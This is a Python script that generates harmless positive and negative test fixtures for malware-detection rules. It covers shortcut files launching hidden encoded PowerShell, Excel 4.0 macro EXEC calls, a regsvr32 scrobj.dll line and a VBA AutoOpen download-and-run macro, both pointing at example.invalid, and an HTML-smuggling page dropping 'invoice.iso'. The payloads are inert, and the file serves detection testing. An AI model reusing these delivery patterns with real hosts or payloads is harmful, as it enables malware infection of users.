#!/usr/bin/env python3
"""mkfixtures.py OUTDIR: harmless files on which each starter rule in conf/rules
should (pos_*) or should not (neg_*) fire. Nothing here runs anything: the encoded
PowerShell command is "Write-Output hi", the download URL is example.invalid, the
"payload" base64 is plain text.
"""
import base64, io, os, struct, sys, zipfile

out = sys.argv[1]
os.makedirs(out, exist_ok=True)

def put(name, data):
    with open(os.path.join(out, name), 'wb') as f:
        f.write(data)

LNK_CLSID = bytes.fromhex('0114020000000000c000000000000046')

def lnk(relpath, args):
    flags = 0x08 | 0x20 | 0x80          # HasRelativePath, HasArguments, IsUnicode
    hdr = struct.pack('<I16sII', 0x4C, LNK_CLSID, flags, 0) + bytes(76 - 28)
    def sd(s):
        return struct.pack('<H', len(s)) + s.encode('utf-16-le')
    return hdr + sd(relpath) + sd(args) + bytes(4)

enc = base64.b64encode('Write-Output hi'.encode('utf-16-le')).decode()
ps = r'..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
put('pos_lnk_ps_enc.lnk', lnk(ps, '-nop -w hidden -enc ' + enc))
put('pos_lnk_ps_e.lnk', lnk(ps, '-NoProfile -E ' + enc))
put('neg_lnk_ps_file.lnk', lnk(ps, '-NoProfile -File report.ps1'))

sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
         'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
         '<row r="1"><c r="A1"><f>EXEC("rundll32.exe shell32.dll,Control_RunDLL")</f></c></row>'
         '<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>')
def xlsm(sheet_xml):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>')
        z.writestr('xl/macrosheets/sheet1.xml', sheet_xml)
    return b.getvalue()
put('pos_xlm_exec.xlsm', xlsm(sheet))
put('pos_xlm_sheet1.xml', sheet.encode())
put('neg_xlm_halt.xlsm', xlsm(sheet.replace('EXEC("rundll32.exe shell32.dll,Control_RunDLL")', 'ALERT("hi")')))

# Not a real workbook: OLE2 magic, then a formula's ptgStr token with "regsvr32".
s = b'regsvr32 /s /i:http://example.invalid/x scrobj.dll'
put('pos_xlm_biff.xls', bytes.fromhex('d0cf11e0a1b11ae1') + bytes(504) +
    b'\x06\x00' + b'\x17' + bytes([len(s)]) + b'\x00' + s + bytes(64))
put('neg_biff_text.xls', bytes.fromhex('d0cf11e0a1b11ae1') + bytes(504) +
    b'see regsvr32 documentation' + bytes(64))

vba = ('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
       '    URLDownloadToFile 0, "http://example.invalid/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\r\n'
       '    Shell Environ("TEMP") & "\\a.exe", vbHide\r\nEnd Sub\r\n')
put('pos_vba_download.bas', vba.encode())
put('neg_vba_msgbox.bas', b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n    MsgBox "hi"\r\nEnd Sub\r\n')

payload = base64.b64encode(b'harmless text, not a program. ' * 100).decode()
html = ('<html><body><script>\nvar d = "%s";\n'
        'var b = atob(d); var a = new Uint8Array(b.length);\n'
        'for (var i = 0; i < b.length; i++) a[i] = b.charCodeAt(i);\n'
        'var blob = new Blob([a], {type: "application/octet-stream"});\n'
        'if (navigator.msSaveOrOpenBlob) navigator.msSaveOrOpenBlob(blob, "invoice.iso");\n'
        'else { var l = document.createElement("a"); l.href = URL.createObjectURL(blob);\n'
        'l.download = "invoice.iso"; l.click(); }\n</script></body></html>\n') % payload
put('pos_html_blob.html', html.encode())
put('neg_html_small_blob.html', html.replace(payload, payload[:200]).encode())
